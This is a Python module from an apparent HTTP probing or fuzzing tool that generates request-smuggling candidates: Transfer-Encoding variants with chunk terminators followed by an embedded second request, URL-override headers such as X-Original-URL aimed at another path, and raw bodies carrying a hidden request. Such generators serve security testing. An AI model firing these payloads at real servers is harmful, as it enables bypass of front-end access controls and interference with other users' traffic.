"""Bodies that are two requests to a server behind an application which passes the headers of a request on.

A server such as gunicorn puts a body in chunks together, and leaves the header that says so. Where that goes along, and
the body does not go in chunks, the next server finds the end of the body within it, and a request behind that end.
"""

from __future__ import annotations

from collections.abc import Iterator

from probes.grammars.ranked import in_turn

Header = tuple[str, str]
Candidate = tuple[tuple[Header, ...], bytes]
_CODINGS = ("chunked", "Chunked", "gzip, chunked", "chunked, identity", " chunked", "identity, chunked", "chunked;x=1")
_ENDS = (b"0\r\n\r\n", b"1\r\nx\r\n0\r\n\r\n", b"0;x=1\r\n\r\n", b"00\r\n\r\n")
_BESIDE: tuple[tuple[Header, ...], ...] = ((), (("Connection", "keep-alive"),), (("Connection", "Transfer-Encoding"),), (("Expect", "100-continue"),))


def bodies(path: str, host: str) -> Iterator[Candidate]:
    """Headers and a body, behind which another request, for `path`, is found by who reads chunks.

    Also headers that say of another path, and bodies that would end a line of a head, or the head itself.
    """
    behind = [f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode() for method, more in (("GET", ""), ("POST", "Content-Length: 0\r\n"))]
    coded = (((("Transfer-Encoding", coding), *beside), end + request)
        for beside in _BESIDE for request in behind for coding in _CODINGS for end in _ENDS)
    named = ((((name, value),), b"fresh") for value in (path, f"http://{host}{path}") for name in (
        "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Forwarded-Path", "X-Script-Name", "X-Forwarded-Uri", "Destination", "Content-Location", "Proxy", "Location"))
    plain = (((), text) for request in behind for text in (b"\r\n\r\n" + request, request, b"x\r\n" + request, path.encode(), f"@{host}{path}".encode(), f"?{path}#".encode()))
    yield from in_turn(coded, named, plain)


def is_in_chunks(headers: tuple[Header, ...]) -> bool:
    """Does the body come in chunks? It has no length then, and its server says where it ends."""
    return any(name == "Transfer-Encoding" for name, _ in headers)
